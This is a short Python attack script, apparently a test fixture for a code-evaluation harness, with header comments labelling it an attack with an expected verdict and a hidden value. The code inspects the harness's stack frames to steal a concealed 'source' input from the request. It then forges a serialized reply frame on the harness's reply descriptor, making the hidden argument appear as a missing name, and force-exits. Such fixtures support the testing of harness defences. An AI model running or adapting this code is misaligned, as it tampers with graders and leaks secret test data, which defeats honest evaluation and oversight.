# attack: forges the reply that a name is missing, with a hidden argument as the name
# verdict: IS
# kata: secret
# never shown: 81726354
import os
import sys


def text(value):
    data = value.encode()
    return b"s" + len(data).to_bytes(4, "little") + data


def many(tag, parts):
    return tag + len(parts).to_bytes(4, "little") + b"".join(parts)


def local(name):
    frame = sys._getframe()
    while frame:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
    os._exit(1)


zero = b"i" + bytes(8)
source = local("request")["prompts"][0]["source"]
payload = many(b"(", [zero, zero, many(b"[", [text(source)]), many(b"[", [])])
frame = bytes((5,)) + len(payload).to_bytes(4, "little") + payload
os.write(local("child").reply_fd, frame)
os._exit(0)
